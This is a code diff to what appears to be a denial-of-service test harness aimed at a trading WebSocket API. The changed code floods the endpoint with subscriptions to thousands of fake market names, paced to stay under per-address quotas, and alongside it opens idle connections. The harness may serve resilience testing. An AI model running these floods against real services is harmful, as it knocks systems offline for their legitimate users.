@@ -38,7 +38,10 @@ const ATTACKS = {
   names: (socket: Socket) => {
     const upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n";
     socket.write(`GET /v2/spot HTTP/1.1\r\n${HEAD}${upgrade}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`);
-    const following = setInterval(() => socket.write(followFrame()), FOLLOWS_EVERY_MS);
+    const following = setInterval(
+      () => socket.write(FOLLOW_FRAMES[follows++ % FOLLOW_FRAMES.length] as Buffer),
+      FOLLOWS_EVERY_MS,
+    );
     socket.once("close", () => clearInterval(following));
   },
   /** Connections that say nothing. */
@@ -110,11 +113,17 @@ function pipelineOf(request: string): string {
 
 /** Together they stay below the quota of an address. */
 const FOLLOWS_EVERY_MS = 600;
-let names = 0;
+const NAMES = 1_000;
+/**
+ * Made before the attack, so that to make them takes nothing of the processor that the honest clients have, and sent
+ * again and again: what is refused is not remembered.
+ */
+const FOLLOW_FRAMES = kind === "names" ? Array.from({ length: 2 * Number(count) }, (_, at) => followFrame(at)) : [];
+let follows = 0;
 
 /** A masked text frame, RFC 6455, whose mask is nothing. */
-function followFrame(): Buffer {
-  const market_list = Array.from({ length: 1_000 }, () => [`NAME${names++}`, 5, "0", false]);
+function followFrame(at: number): Buffer {
+  const market_list = Array.from({ length: NAMES }, (_, name) => [`NAME${at * NAMES + name}`, 5, "0", false]);
   const text = Buffer.from(JSON.stringify({ id: 1, method: "depth.subscribe", params: { market_list } }));
   const frame = Buffer.alloc(8 + text.length);
   frame.set([0x81, 0x80 | 126], 0);
